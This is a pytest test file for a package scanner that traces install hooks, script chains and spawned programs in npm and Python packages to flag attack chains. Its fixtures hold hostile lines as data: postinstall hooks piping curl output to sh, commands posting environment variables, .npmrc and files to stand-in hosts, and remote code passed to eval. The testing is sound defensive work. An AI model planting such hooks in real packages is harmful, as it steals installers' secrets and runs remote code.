"""From the bytes of an artifact to its contents."""

import pytest

from pratique.analysis.context import Context
from pratique.analysis.facts import FileFacts, Language
from pratique.analysis.job import Done, FactsKey
from pratique.analysis.reading import open_part, read_contents
from pratique.archive import DEFAULT_LIMITS
from tests.analysis.inspecting import _part, npm, of_rule, package_json, wheel
from tests.builders import tgz, zipped


def test_bytes_that_are_no_archive_are_an_anomaly() -> None:
    opened = open_part(_part("a-1.tgz", b"nothing", "1.0.0"), b"nothing", DEFAULT_LIMITS)
    assert 1 == len(opened.tree.anomalies)
    assert "a-1.tgz" == opened.tree.omitted[0].path


def test_what_a_hook_s_command_line_does_is_a_fact_of_the_manifest() -> None:
    manifest = package_json(scripts={"postinstall": "curl https://collector.invalid/x | sh"})
    inspection = npm({"package.json": manifest, "index.js": "1"}).inspection
    assert "network (install)" in inspection.capabilities


def test_thousands_of_imports_are_read() -> None:
    names = "".join(f"from sample.models.m{n} import M{n}\n" for n in range(3_000))
    assert wheel({"sample/__init__.py": names}).inspection.complete


def test_equal_files_are_read_once() -> None:
    data = zipped({"a.py": "x = 1\n", "b.py": "x = 1\n"})
    made = []
    opened = open_part(_part("s-1-py3-none-any.whl", data, "1.0.0"), data, DEFAULT_LIMITS)
    read_contents(opened, {}, lambda key, _facts: made.append(key))
    assert 1 == len(made)


def test_facts_are_told_in_the_order_of_the_tree_whatever_is_read_first() -> None:
    names = ("small.py", "largest.py", "medium.py")
    data = zipped({name: f"import {name[:-3]}\n" * len(name) ** 3 for name in names})
    opened = open_part(_part("s-1-py3-none-any.whl", data, "1.0.0"), data, DEFAULT_LIMITS)
    made: dict[FactsKey, FileFacts] = {}
    contents = read_contents(opened, {}, made.__setitem__)

    assert [*names] == [*contents.facts]
    assert [opened.code[name] for name in names] == [*made]
    assert [(name[:-3],) for name in names] == [
        tuple(item.module for item in contents.facts[name].imports) for name in names
    ]
    assert contents.facts == read_contents(opened, made, lambda *_: pytest.fail("known")).facts


def test_what_the_baseline_has_in_common_lies_in_memory_once() -> None:
    files: dict[str, bytes | str] = {"a.bin": bytes(range(256)) * 100, "a.py": "x = 1\n" * 2_000}
    now, then = zipped(files), zipped({**files, "b.py": "y = 1\n"})
    opened = open_part(_part("s-2-py3-none-any.whl", now, "2"), now, DEFAULT_LIMITS)
    before = open_part(_part("s-1-py3-none-any.whl", then, "1"), then, DEFAULT_LIMITS, beside=opened)

    assert all(before.tree.by_path[path].data is opened.tree.by_path[path].data for path in files)


def test_a_hook_s_file_is_read_in_the_language_of_the_program_that_starts_it() -> None:
    manifest = package_json(scripts={"postinstall": "sh ./setup && node lib/data.txt"})
    files = {
        "package.json": manifest,
        "index.js": "1",
        "setup": "curl https://collector.invalid/x | sh\n",
        "lib/data.txt": "require('child_process').exec('marker')",
    }
    data = tgz(files)
    part = _part("a-1.0.0.tgz", data, "1.0.0")
    contents = read_contents(open_part(part, data, DEFAULT_LIMITS), {}, lambda _key, _facts: None)

    assert {
        "setup": (Language.SHELL, Context.INSTALL),
        "lib/data.txt": (Language.JAVASCRIPT, Context.INSTALL),
    } == {path: (contents.facts[path].language, contents.context(path)) for path in ("setup", "lib/data.txt")}


def test_compiled_code_that_a_hook_starts_runs_at_install() -> None:
    data = tgz(
        {
            "package.json": package_json(scripts={"install": "./bin/tool"}),
            "bin/tool": b"\x7fELF\2\1\1" + bytes(60),
        }
    )
    part = _part("a-1.0.0.tgz", data, "1.0.0")
    contents = read_contents(open_part(part, data, DEFAULT_LIMITS), {}, lambda _key, _facts: None)

    assert Context.INSTALL is contents.context("bin/tool")


SENDS = "env | curl -d @- https://collector.invalid/in"


@pytest.mark.parametrize("command", ["npm run b", "npm --prefix . t", "node i.js"])
def test_scripts_that_a_hook_has_npm_run_are_told_with_it(command: str) -> None:
    code = "require('child_process').execSync('npm run b')"
    manifest = package_json(scripts={"postinstall": command, "b": SENDS, "test": SENDS})
    assert of_rule(npm({"package.json": manifest, "index.js": "1", "i.js": code}), "attack-chain")
    unasked = package_json(scripts={"postinstall": "node -v", "b": SENDS, "test": SENDS})
    assert not of_rule(npm({"package.json": unasked, "index.js": "1", "i.js": code}), "attack-chain")


@pytest.mark.parametrize("bundled", [["dep"], []])
def test_hooks_of_a_bundled_package_are_told_in_its_manifest(bundled: list[str]) -> None:
    inner = package_json(name="dep", scripts={"install": SENDS})
    files = {
        "package.json": package_json(bundleDependencies=bundled, dependencies={"dep": "1.0.0"}),
        "index.js": "1",
        "node_modules/dep/package.json": inner,
    }
    found = of_rule(npm(files), "attack-chain")
    assert bool(bundled) == bool(found), "npm runs them where a list names any"
    assert not found or "node_modules/dep/package.json" == found[0].locations[0].path


@pytest.mark.parametrize("name", ["e.py", "e.sh", "e.d.ts", "e.pyx", "e.bat", "e.js"])
def test_a_program_is_read_as_its_first_line_says_whatever_its_name(name: str) -> None:
    manifest = package_json(bin={"a": name})
    attack = "fetch('https://far.invalid', {method: 'POST', body: JSON.stringify(process.env)})\n"
    files = {"package.json": manifest, "index.js": "1", name: "#!/usr/bin/env node\n" + attack}
    assert "network (called)" in npm(files).inspection.capabilities
    if not name.endswith(".js"):
        assert "network (called)" not in npm({**files, name: "#!/usr/bin/perl\n"}).inspection.capabilities


def test_a_script_of_node_that_a_shell_carries_out_is_read_as_both_do() -> None:
    polyglot = f"#!/bin/sh\n':' /*\n{SENDS}\nexit\n*/\nconsole.log(1)\n"
    files = {"package.json": package_json(bin={"a": "e.js"}), "index.js": "1", "e.js": polyglot}
    assert of_rule(npm(files), "attack-chain")
    assert not of_rule(npm({**files, "e.js": "#!/usr/bin/env node" + polyglot[9:]}), "attack-chain")


@pytest.mark.parametrize(
    "command", ["node -v", "sh index.js", "python index.js || true", "sh index.js; python index.js"]
)
def test_a_hook_that_hands_code_to_another_program_hides_nothing_of_it(command: str) -> None:
    attack = "require('child_process').exec('curl https://far.invalid/a | sh');\n"
    files = {
        "package.json": package_json(main="index.js", scripts={"postinstall": command}),
        "index.js": attack,
    }
    assert of_rule(npm(files), "attack-chain")
    assert not of_rule(npm({**files, "index.js": "module.exports = 1\n"}), "attack-chain")


ENDS = "curl https://far.invalid/a | sh"


@pytest.mark.parametrize("length", [3, 60, 150])
def test_scripts_that_run_scripts_are_followed_to_their_end(length: int) -> None:
    chain = {f"x{n}": f"npm run x{n + 1}" for n in range(length)} | {f"x{length}": ENDS}
    done = npm(
        {"package.json": package_json(scripts={"postinstall": "npm run x0", **chain}), "index.js": "1"}
    )
    assert of_rule(done, "attack-chain")


def test_files_are_followed_however_many_lie_beside_what_is_asked_for() -> None:
    files = {f"m/a{n:03}.js": "" for n in range(500)}
    files["m/z.js"] = f"require('child_process').exec('{ENDS}')"
    assert of_rule(npm({"index.js": "require('./m/' + process.argv[2])", **files}), "attack-chain")


def test_the_hooks_of_hundreds_of_bundled_packages_are_read() -> None:
    names = [f"p{n}" for n in range(400)]
    inner = {
        f"node_modules/{n}/package.json": package_json(name=n, scripts={"install": "node -v"}) for n in names
    }
    inner["node_modules/p399/package.json"] = package_json(name="p399", scripts={"install": ENDS})
    done = npm({"package.json": package_json(bundleDependencies=names), "index.js": "1", **inner})
    assert of_rule(done, "attack-chain")


LEAKS = {
    "js": "const fs = require('fs');\nfetch('https://far.invalid/', {method: 'POST', body: fs.readFileSync('a.json')});\n",
    "py": "import urllib.request\nurllib.request.urlopen('https://far.invalid/', data=open('a.json', 'rb').read())\n",
}
STARTS = {
    "js": "const { fork } = require('child_process');\nclass Dev { watch() { fork(__dirname + '/dog.js'); } }\nexports.Dev = Dev;\n",
    "py": "import os, subprocess, sys\nclass Dev:\n    def watch(self):\n"
    "        subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'dog.py')])\n",
}
NPMRC = (
    "fetch('https://far.invalid/', {method: 'POST', body: require('fs').readFileSync('.npmrc', 'utf8')});\n"
)
OPENS = {
    "js": {
        "waits": "module.exports = require('./dev');\n",
        "runs": "new (require('./dev').Dev)().watch();\n",
    },
    "py": {"waits": "from .dev import Dev\n", "runs": "from .dev import Dev\nDev().watch()\n"},
}


def started(suffix: str, entry: str, program: str = "") -> Done:
    """Inspect a package in which a method of dev starts the program dog."""
    code = {"dev": STARTS[suffix], "dog": program or LEAKS[suffix]}
    if suffix == "js":
        return npm({"index.js": entry, **{f"{name}.js": text for name, text in code.items()}})
    return wheel({"kite/__init__.py": entry, **{f"kite/{name}.py": text for name, text in code.items()}})


@pytest.mark.parametrize("suffix", ["js", "py"])
@pytest.mark.parametrize("when", ["waits", "runs"])
def test_what_a_function_starts_as_a_program_runs_when_the_function_does(suffix: str, when: str) -> None:
    found = of_rule(started(suffix, OPENS[suffix][when]), "attack-chain")
    assert (when == "runs") is any(finding.message.startswith("when imported") for finding in found)
    assert (when == "runs") is bool(found)


def test_a_function_is_followed_that_a_program_started_at_load_calls() -> None:
    files = {f"b{n}.js": f"require('./a{n}').go();\n" for n in range(6)}
    files |= {
        f"a{n}.js": f"exports.go = () => require('child_process').fork(__dirname + '/b{n + 1}.js');\n"
        for n in range(6)
    }
    assert of_rule(npm({"index.js": "require('./b0');\n", **files, "b6.js": LEAKS["js"]}), "attack-chain")


@pytest.mark.parametrize(
    "program", [NPMRC, "fetch('https://far.invalid/').then(r => r.text()).then(eval);\n"]
)
def test_what_no_caller_asks_for_is_held_in_such_a_program_too(program: str) -> None:
    found = of_rule(started("js", OPENS["js"]["waits"], program), "attack-chain")
    assert ["when called"] == list(dict.fromkeys(finding.message[:11] for finding in found))
